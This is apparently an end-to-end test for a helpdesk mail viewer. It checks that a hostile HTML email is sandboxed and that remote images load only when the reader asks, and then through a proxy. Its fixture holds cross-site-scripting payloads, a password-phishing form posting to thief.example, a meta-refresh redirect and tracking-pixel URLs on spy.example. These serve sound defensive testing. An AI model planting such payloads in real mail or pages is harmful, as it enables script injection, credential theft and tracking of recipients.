import { contoso } from '../support/contoso'
import { ticketOf } from '../support/desk'
import { microsoft } from '../support/microsoft'
import { expect, story } from '../support/story'

const attack = `
  <h1>You have won</h1>
  <script>window.parent.pwned = 1</script>
  <img src="x" onerror="parent.pwned = 2">
  <svg onload="parent.pwned = 3"></svg>
  <iframe srcdoc="<script>top.pwned = 4</script>"></iframe>
  <a href="javascript:parent.pwned=5">Take the prize</a>
  <form action="https://thief.example/"><input name="password"><button>Sign in again</button></form>
  <style>body { background: url(https://spy.example/style.png) }</style>
  <table background="https://spy.example/table.png"><tr><td style="background-image: url('https://spy.example/cell.png')">Cheap</td></tr></table>
  <img src="https://spy.example/opened.png" width="40" height="40" alt="The prize">
  <link rel="stylesheet" href="https://spy.example/style.css">
  <meta http-equiv="refresh" content="0; url=https://thief.example/">`

// A picture of one grey point.
const picture = Buffer.from('R0lGODdhAQABAIAAAMLCwsLCwiwAAAAAAQABAAACAkQBADs=', 'base64')

story('a hostile mail runs nothing and calls nobody; its pictures come through Tandem when the reader asks for them', async ({ visit }) => {
  const subject = 'You have won'
  await microsoft.mail({ from: 'luck@thief.example', name: 'Luck', subject, text: '', html: attack })
  const ticket = await ticketOf(subject)

  const visitor = await visit()
  const asked: string[] = []
  await visitor.context.route(
    (url) => url.origin !== contoso.tandem,
    (route) => {
      asked.push(route.request().url())
      return route.fulfill({ contentType: 'image/gif', body: picture })
    },
  )
  const page = await visitor.open(`/tickets/${ticket}`)
  const frame = page.getByTitle('Mail from Luck')
  await frame.contentFrame().getByRole('heading', { name: 'You have won' }).waitFor()
  expect((await frame.getAttribute('sandbox'))?.split(' ')).not.toContain('allow-scripts')
  const inside = frame.contentFrame().locator('body')
  expect(await inside.locator('script, iframe, form, input, link, meta[http-equiv], [onerror], [onload]').count()).toBe(0)
  expect(await inside.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).not.toContain(
    'javascript:parent.pwned=5',
  )
  expect(asked).toEqual([])

  await page.getByText('Images from the internet are not loaded').waitFor()
  // What Tandem would have fetched; the browser itself asks nobody else.
  const through: string[] = []
  await visitor.context.route('**/images/*', (route) => {
    through.push(new URL(route.request().url()).pathname)
    return route.fulfill({ contentType: 'image/gif', body: picture })
  })
  await page.getByRole('button', { name: 'Show images' }).click()
  const prize = frame.contentFrame().getByRole('img', { name: 'The prize' })
  await expect.poll(() => prize.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
  expect(through).toHaveLength(1)
  expect(asked).toEqual([])
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(visitor.context.pages()).toHaveLength(1)
})
